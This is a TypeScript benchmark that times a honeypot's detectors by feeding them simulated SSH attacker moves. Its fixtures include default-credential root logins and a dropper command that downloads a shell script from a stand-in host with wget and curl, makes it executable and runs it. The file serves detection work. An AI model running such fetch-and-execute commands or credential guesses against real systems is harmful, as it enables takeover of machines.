/** Events a second through all detectors on one core: `node stages/5-detect/bench/detect.bench.ts`. Prints JSON. */
import { newActorState, packActorState, unpackActorState, type ActorState } from '../actor-state.ts';
import { createDetectors } from '../detectors.ts';
import { moveEvent, STORY_START, type MoveSketch } from '../test-moves.ts';

const ROUNDS = 20_000;
const detectors = createDetectors();
const sketches: MoveSketch[] = [
  { connect: true },
  { handshake: 'SSH-2.0-Go' },
  { login: 'root', password: 'admin' },
  { login: 'root', password: '123456', ok: true },
  { command: 'uname -a; cat /proc/cpuinfo | grep name | wc -l' },
  { program: ['uname', '-a'] },
  {
    command:
      'cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh; curl -O http://192.0.2.1/x.sh; chmod 777 x.sh; sh x.sh',
  },
  { program: ['wget', 'http://192.0.2.1/x.sh'] },
  { download: 'http://192.0.2.1/x.sh' },
  { disconnect: true },
];

function decoyEvents(): number {
  const events = sketches.map((sketch, at) => moveEvent(sketch, STORY_START + at * 1000, at + 1));
  const start = performance.now();
  for (let round = 0; round < ROUNDS / 10; round++) {
    const state = newActorState();
    for (const event of events) detectors.process(event, state);
  }
  return perSecond((ROUNDS / 10) * events.length, start);
}

function background(): number {
  const { netsentinel, ...rest } = moveEvent({ connect: true, decoy: false }, STORY_START, 1);
  const events = Array.from({ length: 100 }, (_, at) => ({
    ...rest,
    event: { ...rest.event, dataset: `zeek.${at % 7}`, action: `flow-${at % 9}`, category: ['network' as const] },
    netsentinel,
  }));
  let concerned = 0;
  const start = performance.now();
  for (let round = 0; round < ROUNDS; round++) for (const event of events) if (detectors.concerns(event)) concerned++;
  if (concerned > 0) throw new Error('background concerns the detectors');
  return perSecond(ROUNDS * events.length, start);
}

function packing(): number {
  const states: ActorState[] = [newActorState()];
  sketches.forEach((sketch, at) => detectors.process(moveEvent(sketch, STORY_START + at, at + 1), states[0]!));
  const start = performance.now();
  for (let round = 0; round < ROUNDS; round++) unpackActorState(packActorState(states[0]!));
  return perSecond(ROUNDS, start);
}

function perSecond(count: number, start: number): number {
  return Math.round((count / (performance.now() - start)) * 1000);
}

for (const warm of [decoyEvents, background, packing]) warm();
process.stdout.write(
  `${JSON.stringify({ bench: 'detect', decoyEventsPerSecond: decoyEvents(), backgroundPerSecond: background(), statesPackedAndUnpackedPerSecond: packing() })}\n`,
);
